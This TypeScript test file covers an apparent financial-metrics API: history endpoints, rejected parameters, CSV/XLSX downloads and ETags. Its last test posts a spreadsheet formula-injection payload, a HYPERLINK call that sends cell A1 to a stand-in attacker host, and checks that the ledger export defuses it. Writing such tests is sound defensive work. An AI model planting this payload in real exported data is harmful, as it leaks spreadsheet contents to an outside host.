import Papa from 'papaparse';
import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ledgerColumns } from '../../src/claims/ledger/index.ts';
import { parseIsoDate } from '../../src/core/index.ts';
import { openStore } from '../../src/data/index.ts';
import { measure, metricList } from '../../src/metrics/index.ts';
import { historyRoute } from '../../src/server/routes/metric-routes.ts';
import { contractRows } from '../contract-rows.ts';
import { createLakeFolder, type LakeFolder } from '../lake/lake-folder.ts';
import { createTestApp, type TestApp } from './test-app.ts';

let folder: LakeFolder;
let server: TestApp;
beforeAll(() => {
  folder = createLakeFolder();
  server = createTestApp({ lake: folder.lake });
});
afterAll(async () => {
  await server.close();
  folder.remove();
});

const history = '/v1/metrics/active-return/history?series=^RUT&benchmark=^GSPC';
const range = 'first=2025-12-01&last=2026-01-22';

function toQuery(params: Readonly<Record<string, unknown>>): string {
  return String(new URLSearchParams(Object.entries(params).map(([name, value]) => [name, String(value)])));
}

describe('the history of a metric', () => {
  it('is what the metric was on each date', async () => {
    const store = await openStore('/nonexistent/rotascope-lake');
    for (const [every, count] of [
      ['day', 36],
      ['week', 8],
      ['month', 2],
    ] as const) {
      const answer = (await server.get(`${history}&${range}&every=${every}`)).json();
      expect(historyRoute.response.safeParse(answer).error).toBeUndefined();
      expect(answer.dates).toHaveLength(count);
      expect([answer.dates.at(-1), answer.every]).toEqual(['2026-01-22', every]);
      answer.dates.forEach((date: string, i: number) => {
        const params = { series: '^RUT', benchmark: '^GSPC' };
        const { value, details } = measure(store, 'active-return', params, parseIsoDate(date));
        expect(answer.values[i]).toBe(value);
        for (const [name, column] of Object.entries(answer.details)) {
          expect((column as unknown[])[i]).toEqual(details[name]);
        }
      });
    }
  });

  it.each(metricList.map(({ id }) => id))('can be had of %s', async (id) => {
    const [params = {}] = contractRows[id] ?? [];
    for (const name of ['first', 'last', 'every', 'format']) {
      expect(metricList.find((metric) => metric.id === id)?.params.shape).not.toHaveProperty(name);
    }
    const answer = await server.get(
      `/v1/metrics/${id}/history?${toQuery(params)}&first=2026-01-20&last=2026-01-22&every=day`,
    );
    if (answer.statusCode === 404) return expect(answer.json().code).toMatch(/^unknown-(series|universe)$/);
    expect(answer.json().dates).toEqual(['2026-01-20', '2026-01-21', '2026-01-22']);
  });

  it.each([
    ['first=2026-01-02&last=2026-01-01', 'invalid-parameter'],
    ['first=2026-01-03&last=2026-01-04', 'invalid-parameter'],
    ['first=1990-01-01&every=day', 'invalid-parameter'],
    ['every=hour', 'invalid-parameter'],
    ['format=ods', 'invalid-parameter'],
    ['first=soon', 'invalid-date'],
    ['serie=x', 'invalid-parameter'],
  ])('with %s is refused', async (query, code) => {
    expect((await server.get(`${history}&${query}`)).json()).toMatchObject({ code });
  });
});

describe('a file', () => {
  it('of a history or a series has the figures of the JSON', async () => {
    for (const [url, name] of [
      [`${history}&${range}`, 'active-return-history'],
      [`/v1/series/^RUT/close?asOf=2026-01-22&${range}`, 'RUT-close'],
    ] as const) {
      const { dates, values } = (await server.get(url)).json();
      const csv = await server.get(`${url}&format=csv`);
      expect(csv.headers).toMatchObject({
        'content-type': 'text/csv; charset=utf-8',
        'content-disposition': `attachment; filename="${name}.csv"`,
        'x-content-type-options': 'nosniff',
      });
      const rows = Papa.parse<string[]>(csv.body.trimEnd()).data;
      expect(rows.slice(1).map(([date, value]) => [date, Number(value)])).toEqual(
        dates.map((date: string, i: number) => [date, values[i]]),
      );
      const workbook = await server.get(`${url}&format=xlsx`);
      expect(workbook.headers['content-disposition']).toBe(`attachment; filename="${name}.xlsx"`);
      const sheet = await readSheet(workbook.rawPayload);
      expect(sheet.slice(1).map((row) => row[1])).toEqual(values);
      const tags = [url, `${url}&format=csv`, `${url}&format=xlsx`].map(
        async (one) => (await server.get(one)).headers.etag,
      );
      expect(new Set(await Promise.all(tags)).size).toBe(3);
      const held = await server.get(`${url}&format=csv`, { 'if-none-match': String(csv.headers.etag) });
      expect(held.statusCode).toBe(304);
    }
  });

  it('of the ledger runs nothing that a text, its name or its publisher holds', async () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A1;"read")';
    const told = { published: '2026-01-23', asOf: '2026-06-30', keep: 'true', source: attack, publisher: '@evil' };
    const text = `${attack}\n\nOn Thursday the Russell 2000 had outperformed the S&P 500 for 14 straight sessions.`;
    expect((await server.post(`/v1/claims?${toQuery(told)}`, text)).statusCode).toBe(200);
    const csv = await server.get('/v1/ledger?format=csv');
    expect(csv.headers['content-disposition']).toBe('attachment; filename="ledger.csv"');
    const { data } = Papa.parse<Record<string, string>>(csv.body.trimEnd(), { header: true });
    expect(Object.keys(data[0] ?? {})).toEqual([...ledgerColumns]);
    expect(data[0]).toMatchObject({ source: `'${attack}`, publisher: "'@evil", claim: 'c1', verdict: 'supported' });
    for (const cell of Object.values(data[0] ?? {})) expect(cell).not.toMatch(/^[=+@\t\r\n]|^-[^\d]/);
    const sheet = await readSheet((await server.get('/v1/ledger?format=xlsx')).rawPayload);
    expect(sheet[0]).toEqual([...ledgerColumns]);
    expect(sheet[1]?.[ledgerColumns.indexOf('source')]).toBe(attack);
    expect((await server.get('/v1/ledger?format=csv&publisher=nobody')).body.trimEnd()).toBe(ledgerColumns.join(','));
  });
});
